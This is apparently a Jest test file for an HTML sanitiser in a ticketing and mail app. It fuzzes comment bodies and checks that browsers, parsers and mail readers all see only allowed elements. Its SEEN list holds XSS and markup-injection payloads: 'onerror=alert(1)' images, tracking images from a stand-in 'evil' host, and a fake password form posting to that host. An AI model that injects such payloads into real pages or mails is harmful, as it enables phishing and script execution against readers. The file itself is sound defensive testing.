// Surface: HTML input, as different programs read it: pages and mails show only what is allowed.
import fc from 'fast-check'
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import PostalMime from 'postal-mime'
import { cleanHtml, type CleanHtml } from '../../../rest/html/clean.ts'
import { wholeText } from '../../../rest/mail/outbox.ts'
import { ticketMail } from '../../../rest/mail/ticket.ts'
import { openTransport } from '../../../rest/mail/transport.ts'
import { openBrowser } from '../../helpers/browser.ts'
import { openHtmlBrowser, type HtmlBrowser } from './htmlBrowser.ts'
import { elementsOf, joined, lenientTree, standardTree, type Tree } from './htmlTrees.ts'
import { nastyHtml, OWN } from './nastyHtml.ts'

// The same cases in every run. For other cases: HTML_CASES=20000 HTML_SEED=2 npx jest
// tests/security/html/htmlReaders.test.ts
const CASES = Number(process.env.HTML_CASES ?? 400)
const SEED = Number(process.env.HTML_SEED ?? 1)
const BATCH = 25
const PUBLIC = 'https://daybook.example.com'

const cleaned = (html: string) => cleanHtml(html, { isOwnFile: uuid => uuid === OWN })
const clean = (html: string) => cleaned(html).html

/** Attacks that were seen in mails, of the kinds that the grammar generates. */
const SEEN = [
  '<a href="https://x/<pre><img src=https://evil/p.gif><form action=https://evil><input name=password>">x</a>',
  `<img src="/api/v1/download/${OWN}/p.png" alt="><img src=https://evil/q.gif>">`,
  `<img alt="><img src=https://evil/q.gif>" src="/api/v1/download/${OWN}/<img src=https:%2f%2fevil>">`,
  '<pre>\n\n<b>\n</b></pre><pre><b>\n\n</b></pre><pre>&#10;x</pre>',
  '</p😀</p😀',
  '<frameset>',
  '<li>a<p>b<li>c</ul><li>d<blockquote><li>e<ol><li>f',
  '<ol start="3"><li>a<ol start=-2><li>b</ol></ol><ol start="4><img src=x onerror=alert(1)>"><li>c',
  '<table><tr><td><p>a<td><b>b<img src=x onerror=alert(1)><td><pre>\n\nc</pre><td>d<tr><td><ul><li>e</table>f',
]
const cases = [...SEEN, ...fc.sample(nastyHtml, { numRuns: CASES, seed: SEED })]
const batches = Array.from({ length: Math.ceil(cases.length / BATCH) }, (_, at) =>
  cases.slice(at * BATCH, (at + 1) * BATCH),
)

const ELEMENTS = 'p h1 h2 h3 strong em u s code pre br blockquote ul ol li'.split(' ')
const LINK = /^(?:https?:\/\/|mailto:)/i

/** The elements that no body may have. */
const strangers = (trees: readonly Tree[]) =>
  elementsOf(trees).filter(([name, attributes]) => {
    const names = Object.keys(attributes).sort().join()
    if (name === 'a') return names !== 'href' || !LINK.test(attributes.href ?? '')
    if (name === 'img')
      return !/^(alt,)?src$/.test(names) || !attributes.src?.startsWith(`/api/v1/download/${OWN}/`)
    if (name === 'ol' && names === 'start') return !/^-?\d{1,9}$/.test(attributes.start ?? '')
    return !ELEMENTS.includes(name) || names !== ''
  })

/** A body as it is in a mail. */
const inMail = (trees: readonly Tree[]): Tree[] =>
  trees.map((node): Tree => {
    if (typeof node === 'string') return node
    const [name, attributes, children] = node
    if (name === 'img') return ['em', {}, [expect.stringMatching(/^\[.*\]$/) as string]]
    const style = MAIL_STYLES[name]
    return [name, style === undefined ? attributes : { style }, inMail(children)]
  })
const MAIL_STYLES: Readonly<Record<string, string>> = {
  pre: 'white-space:pre-wrap;overflow-wrap:anywhere',
  blockquote: 'margin:12px 0;padding-left:12px;border-left:3px solid #c8c6c4',
}

let browser: Browser
let chromium: HtmlBrowser
let folder: string
beforeAll(async () => {
  browser = await openBrowser()
  chromium = await openHtmlBrowser(browser)
  folder = await mkdtemp(join(tmpdir(), 'daybook-mails-'))
  process.stdout.write(`HTML_CASES=${CASES} HTML_SEED=${SEED}\n`)
})
afterAll(async () => {
  await browser.close()
  await rm(folder, { recursive: true, force: true })
})

test.each(batches.map((html, at) => ({ at, html })))(
  'batch $at of cleaned bodies is the same allowed tree for every reader, and does not change when cleaned again',
  async ({ html }) => {
    const bodies = html.map(clean)
    const [read, shown] = [await chromium.read(bodies), await chromium.show(bodies)]
    for (const [at, given] of html.entries()) {
      const body = bodies[at] ?? ''
      const tree = read[at] ?? []
      const about = { given, body, seed: SEED }
      expect({ ...about, strangers: strangers(tree) }).toEqual({ ...about, strangers: [] })
      expect({ ...about, tree: standardTree(body) }).toEqual({ ...about, tree })
      expect({ ...about, tree: lenientTree(body) }).toEqual({ ...about, tree })
      expect({ ...about, tree: withoutAlt(shown[at] ?? []) }).toEqual({ ...about, tree: withoutAlt(tree) })
      expect({ ...about, again: clean(body) }).toEqual({ ...about, again: body })
      // A reader that looks for tags in the text finds only the real ones.
      const text = body.replace(/<\/?[a-z0-9]+(?: [a-z]+="[^"'<>`]*")*>/g, '')
      expect({ ...about, leftovers: text.match(/[<>]/g) }).toEqual({ ...about, leftovers: null })
    }
    expect(
      chromium.noticed.filter(url => !url.startsWith(`https://daybook.example/api/v1/download/${OWN}/`)),
    ).toEqual([])
  },
)

// A link without a target is shown as text. Only the server knows whether a file belongs to the ticket.
const isNotAllowedOnPage = ([name, { href, src }]: Exclude<Tree, string>) =>
  !(name === 'a' && href === undefined) &&
  !(name === 'img' && /^\/api\/v1\/download\/[\da-f-]{36}\/[^/?#]+$/.test(src ?? ''))

// A server that has only the documented calls may not clean HTML.
test.each(batches.map((html, at) => ({ at, html })))(
  'batch $at of bodies that no server has cleaned adds nothing unexpected to the page',
  async ({ html }) => {
    const shown = await chromium.show(html)
    for (const [at, given] of html.entries())
      expect({
        given,
        strangers: strangers(shown[at] ?? []).filter(isNotAllowedOnPage),
      }).toEqual({ given, strangers: [] })
  },
)

test.each(batches.map((html, at) => ({ at, html })))(
  'batch $at of bodies, subjects and names adds only allowed text to a mail',
  async ({ at, html }) => {
    const plain = shapeOf(await opened(await mailed('plain', cleaned('<p>x</p>'), 'x')))
    const mails = await Promise.all(
      html.map((given, index) =>
        mailed(`${at}-${index}`, cleaned(given), given.replace(/\p{Cs}/gu, '\ufffd')),
      ),
    )
    const read = await chromium.read(html.map(clean))
    const documents = await chromium.open(mails)
    for (const [index, given] of html.entries()) {
      const mail = mails[index] ?? ''
      const tree = documents[index] ?? ''
      const about = { given, seed: SEED }
      expect({ ...about, shape: shapeOf(tree) }).toEqual({ ...about, shape: plain })
      const body = bodyIn([tree])
      expect({ ...about, body }).toEqual({ ...about, body: inMail(read[index] ?? []) })
      expect({ ...about, body: bodyIn(standardTree(mail)) }).toEqual({ ...about, body })
      expect({ ...about, body: bodyIn(lenientTree(mail)) }).toEqual({ ...about, body })
      const elsewhere = elementsOf([tree]).flatMap(([, { href = PUBLIC }]) =>
        href.startsWith(PUBLIC) ? [] : [href],
      )
      const links = elementsOf(body).flatMap(([, { href }]) => href ?? [])
      expect({ ...about, links: elsewhere.filter(href => !links.includes(href)) }).toEqual({
        ...about,
        links: [],
      })
    }
    expect(chromium.noticed.filter(url => !url.startsWith('https://daybook.example/'))).toEqual([])
  },
)

const opened = async (mail: string) => (await chromium.open([mail]))[0] ?? ''

/** The HTML of the mail about a comment, as it was sent and as a mail program extracts it from the message. */
async function mailed(name: string, { html: body, nodes }: CleanHtml, text: string): Promise<string> {
  const dataDir = join(folder, name)
  const transport = openTransport(
    { dataDir, smtpUrl: undefined, mailFrom: 'Daybook <daybook@example.com>' },
    1,
  )
  const compose = ticketMail({
    config: {
      publicUrl: PUBLIC,
      companyName: 'Company',
      tokenSecret: new TextEncoder().encode('k'.repeat(32)),
    },
    project: { id: 1, name: text },
    ticket: { id: 1, subject: text, body: '', statuses: [], files: [] },
    comment: { id: 1, body, changes: null, files: [{ filename: text }] },
    nodes,
    author: { email: 'ann@example.com', name: text },
    recipients: ['ben@example.com'],
  })
  const mail = compose('ben@example.com', { isLastOfHour: false })
  const whole = wholeText(mail, mail.content)
  await transport.send({
    ...mail,
    ...whole,
    messageId: '<1@daybook.example.com>',
    id: 1,
    created: new Date(0),
  })
  const [file = ''] = await readdir(join(dataDir, 'outbox'))
  const { html = '' } = await PostalMime.parse(await readFile(join(dataDir, 'outbox', file)))
  return html
}

const isBody = ([name, { style }]: Exclude<Tree, string>) =>
  name === 'div' && style === 'overflow-wrap:anywhere'
const bodyIn = (trees: readonly Tree[]) => elementsOf(trees).find(isBody)?.[2] ?? ['no body']

/** A mail without its text, links and body. */
const shapeOf = (tree: Tree): Tree => {
  if (typeof tree === 'string') return ''
  const [name, attributes, children] = tree
  const kept = 'href' in attributes ? { ...attributes, href: '' } : attributes
  return [name, kept, isBody(tree) ? [] : joined(children.map(shapeOf))]
}

/**
 * The web app adds an empty alternative text to pictures without one, and drops a text that looks like the end
 * of a style.
 */
const withoutAlt = (trees: readonly Tree[]): Tree[] =>
  trees.map(tree => {
    if (typeof tree === 'string') return tree
    const [name, attributes, children] = tree
    const others = Object.entries(attributes).filter(([key]) => key !== 'alt')
    return [name, Object.fromEntries(others), withoutAlt(children)]
  })
